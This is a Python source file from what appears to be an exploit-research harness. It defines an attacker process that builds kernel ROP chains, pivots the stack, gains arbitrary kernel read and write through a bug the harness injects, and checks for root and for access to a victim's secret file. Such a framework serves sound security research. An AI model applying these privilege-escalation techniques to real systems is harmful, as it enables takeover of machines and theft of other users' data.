"""The attacker: a guest process with the words an exploit is written in.

Why it exists: an exploit should read like the program it would be: prepare memory, trigger the bug, use what was
gained. Each method that makes a call is a generator (`yield from`).

Rules of this file:
- `call` and `must` are ordinary calls; `attack` makes one that is isolated, and in which the bug happens.
- Payload bytes come into the attacker's memory by its own calls.
"""

from collections.abc import Callable
from dataclasses import dataclass
from typing import TYPE_CHECKING

from thinbox.attacks.bug import REGISTERS as REGISTER_NUMBERS
from thinbox.attacks.bug import Bug, wrong_registers
from thinbox.attacks.leak import Leak
from thinbox.attacks.payload import POP_RSP, REGISTERS, RETURN, Chain, ExploitFailedError, pops
from thinbox.attacks.read_run import RETURNING, ReadRun
from thinbox.attacks.scenario import ATTACKER_AREA, DONE, GO, PRIVATE_FILE, SECRET_BYTES, Scenario
from thinbox.attacks.smep import set_smep
from thinbox.guest.agent_channel import Syscall
from thinbox.harness.process import AREA_BYTES, Argument, GuestProcess, Steps
from thinbox.kernel.pipe import find_pipe
from thinbox.machine import cpu as registers

if TYPE_CHECKING:
    from thinbox.attacks.attempt import Attempt
    from thinbox.session.opened import RestoredGuest

Wanted = Callable[[int], bool] | None
_PROT_RW, _PROT_RWX, _PRIVATE_ANON_FIXED = 3, 7, 0x32
O_RDWR, _O_CREAT_RDWR = 2, 0o102


@dataclass(frozen=True, slots=True)
class Frame:
    """The attacker's kernel stack where a call's handler begins: `slot` holds the address it returns to, and
    `do_syscall_64` needs those registers back that it saved itself: (encoding, value), in the order it pops them."""

    slot: int
    registers: tuple[tuple[int, int], ...]


class Attacker(GuestProcess):
    """A process of uid 1000 that tries an exploit."""

    def __init__(self, opened: "RestoredGuest", scenario: Scenario, attempt: "Attempt") -> None:
        super().__init__(opened, ATTACKER_AREA // AREA_BYTES)
        self._attempt, self._machine = attempt, opened.machine
        self.task, self.text, self.victim = scenario.attacker_task, scenario.text, scenario.victim
        self._read_run, self.candidate = scenario.read_run, attempt.candidate

    @property
    def leak(self) -> Leak:
        """Addresses the attacker is presumed to know, as the kernel's own table maps them now."""
        return Leak(self._machine.memory, self._guest.view, self._attempt.corruption.kernel_root)

    @property
    def console(self) -> bytes:
        """What the kernel printed during this attempt."""
        return bytes(self._machine.console)

    def on_death(self, reached: "Callable[[], bool]") -> None:
        """The attack may end its own process: `reached` says then whether its goal was reached."""
        self._attempt.on_death = reached

    @property
    def cr4(self) -> int:
        """What CR4 holds."""
        return self._machine.cpu.cr4

    def give_cpu_smep(self) -> None:
        """Make the CPU one with SMEP, as the kernel would have at boot (arch/x86/kernel/cpu/common.c, setup_smep)."""
        set_smep(self._machine, self.leak, self.text)

    @property
    def cpu_registers(self) -> tuple[int, ...]:
        """The CPU's general registers, by encoding, where a watched instruction is about to run."""
        return tuple(self._machine.cpu.regs)

    def watch(self, place: int, function: Callable[[], None]) -> None:
        """Call `function` whenever the instruction at `place` is about to run."""
        self._attempt.watch(place, function)

    # -- attacking --------------------------------------------------------------------------------
    def attack(self, name: str, *args: Argument, bug: Bug | None = None) -> Steps:
        """Make a call of the attack; its value is the result, negative errno included."""
        self._attempt.begin_attack(name, bug)
        result = yield Syscall(name, args)
        self._attempt.end_attack(name)
        return result

    def use(self, chain: Chain) -> Chain:
        """Note the names of a chain's parts, for the record."""
        self._attempt.names.update(chain.names)
        return chain

    def name(self, vaddr: int, name: str) -> int:
        """Note the name of one address of the payload, for the record."""
        self._attempt.names[vaddr] = name
        return vaddr

    def learn_frame(self) -> Steps:
        """Find out where the kernel stack of this process is: it is the same in each of its calls."""
        found: list[Frame] = []

        def look() -> None:
            regs = self._machine.cpu.regs
            saved = self.text.saved_by("do_syscall_64")
            found.append(Frame(regs[registers.RSP], tuple((number, regs[number]) for number in saved)))

        self._attempt.watch(self.text.function("__x64_sys_getpid"), look)
        yield from self.must("getpid")
        return found[0]

    def holders(self, place: int, value: int, name: str, *args: Argument) -> Steps:
        """Make a call, and find out which registers hold `value` when it comes to `place`: their names."""
        found: list[frozenset[str]] = []

        def look() -> None:
            regs = self._machine.cpu.regs
            found.append(frozenset(known for known, number in REGISTER_NUMBERS.items() if regs[number] == value))

        self._attempt.watch(place, look)
        yield from self.call(name, *args)
        if not found:
            raise ExploitFailedError(f"{name} did not come to the place of the bug; this kernel does it in another way")
        return found[0]

    def end_chain(self, chain: Chain, frame: Frame, wanted: Wanted = None) -> Chain:
        """Let a chain end as the handler would have: in `do_syscall_64`, its registers as it left them."""
        code = pops(number for number, _value in frame.registers)
        name = "".join(f"pop {REGISTERS[number]}; " for number, _value in frame.registers) + "ret"
        return chain.add(name, self.text.gadget(code, wanted), *(value for _number, value in frame.registers))

    def fill_stack(self, chain: Chain, frame: Frame, slots: int, wanted: Wanted = None) -> bytes:
        """Return the chain, `ret` behind it and registers restored, `slots` words long: what follows it on the stack
        is the handler's own return address. `wanted` chooses among the gadgets for that."""
        missing = slots - len(chain.words) - 1 - len(frame.registers)
        if missing < 0:
            raise ExploitFailedError(f"the chain is {-missing} words too long for the stack of this kernel's read")
        for _ in range(missing):
            chain.add("ret", self.text.gadget(RETURN, wanted))
        return self.use(self.end_chain(chain, frame, wanted)).data

    def leave_by_pivot(self, chain: Chain, frame: Frame) -> Chain:
        """End a chain that lies elsewhere: back to the handler's own return address."""
        self.end_chain(chain, frame)
        return self.use(chain.add("pop rsp; ret", self.text.gadget(POP_RSP), frame.slot))

    def overflow_slots(self, function: str, frame: Frame) -> Steps:
        """Return how many words lie between `function`'s return address, in a read of a pipe, and the handler's."""
        found: list[int] = []
        self._attempt.watch(self.text.function(function), lambda: found.append(self._machine.cpu.regs[registers.RSP]))
        handle = yield from self.filled_pipe(b"x")
        yield from self.must("read", handle[0], self.buffer(8), 1)
        return (frame.slot - found[0]) // 8

    def choose_overflow(self, frame: Frame, words: int) -> Steps:
        """Return a function whose return address is to be overwritten in a read of a pipe, and how many words lie from
        there to the handler's: `vfs_read`, or, where that has no room for a chain of `words`, what it calls."""
        slots = 0
        for function in (RETURNING, find_pipe(self.facts).read):
            slots = yield from self.overflow_slots(function, frame)
            if slots >= words + 1 + len(frame.registers):
                return function, slots
        return RETURNING, slots

    # -- memory and pipes -----------------------------------------------------------------------------
    def own_file(self) -> Steps:
        """Make a file in the attacker's folder; its value is the handle."""
        return (yield from self.must("open", "plain", _O_CREAT_RDWR, 0o600))

    def filled_pipe(self, data: bytes) -> Steps:
        """Make a pipe with `data` in it; its value is (read end, write end)."""
        place = self.buffer(8)
        yield from self.must("pipe", place)
        ends = self.read_int(place), self.read_int(place + 4)
        yield from self.must("write", ends[1], self.buffer(data), len(data))
        return ends

    def private_page(self, vaddr: int, data: bytes, *, executable: bool = False) -> Steps:
        """Map pages of its own at a chosen address, and put `data` there by a read."""
        size = (len(data) + 4095) & ~4095
        protection = _PROT_RWX if executable else _PROT_RW
        yield from self.must("mmap", vaddr, size, protection, _PRIVATE_ANON_FIXED, -1, 0)
        ends = yield from self.filled_pipe(data)
        yield from self.must("read", ends[0], vaddr, len(data))
        return vaddr

    @property
    def read_run(self) -> ReadRun:
        """What a read of a pipe has run when `vfs_read` returns."""
        if isinstance(self._read_run, ExploitFailedError):
            raise self._read_run
        return self._read_run

    @property
    def copy_routine(self) -> int:
        """The routine that copies to and from users, as the running kernel calls it."""
        return self.text.copy_routine

    def write_kernel(self, vaddr: int, data: bytes) -> Steps:
        """Arbitrary write: a read of a pipe, whose copy to the user gets a kernel address as its destination."""
        ends = yield from self.filled_pipe(data)
        bug = wrong_registers(self.copy_routine, {"rdi": vaddr})
        return (yield from self.attack("read", ends[0], self.buffer(len(data)), len(data), bug=bug))

    def read_kernel(self, vaddr: int, size: int) -> Steps:
        """Arbitrary read: a write to a pipe, whose copy from the user gets a kernel address as its source."""
        ends = yield from self.filled_pipe(b"x")
        bug = wrong_registers(self.copy_routine, {"rsi": vaddr})
        yield from self.attack("write", ends[1], self.buffer(size), size, bug=bug)
        place = self.buffer(size + 1)
        yield from self.call("read", ends[0], place, size + 1)
        return self.read(place + 1, size)

    # -- goals ----------------------------------------------------------------------------------------
    def is_root(self) -> Steps:
        """Whether the guest says so: getuid returns 0, and the victim's private file can be read."""
        uid = yield from self.call("getuid")
        return uid == 0 and (yield from self.opens_private(O_RDWR))

    def opens_private(self, flags: int = 0) -> Steps:
        """Whether the victim's private file can be opened and read, by whatever ids."""
        handle = yield from self.call("open", PRIVATE_FILE, flags, 0)
        if handle < 0:
            return False
        place = self.buffer(SECRET_BYTES)
        yield from self.call("read", handle, place, SECRET_BYTES)
        return self.read(place, SECRET_BYTES) == self.victim.file_secret

    def ask_victim(self) -> Steps:
        """Let the victim look at what is its own: its memory, its file, its pipe."""
        yield from self.must("write", GO[1], b"g", 1)
        yield from self.must("read", DONE[0], self.buffer(8), 1)
        return self._attempt.seen
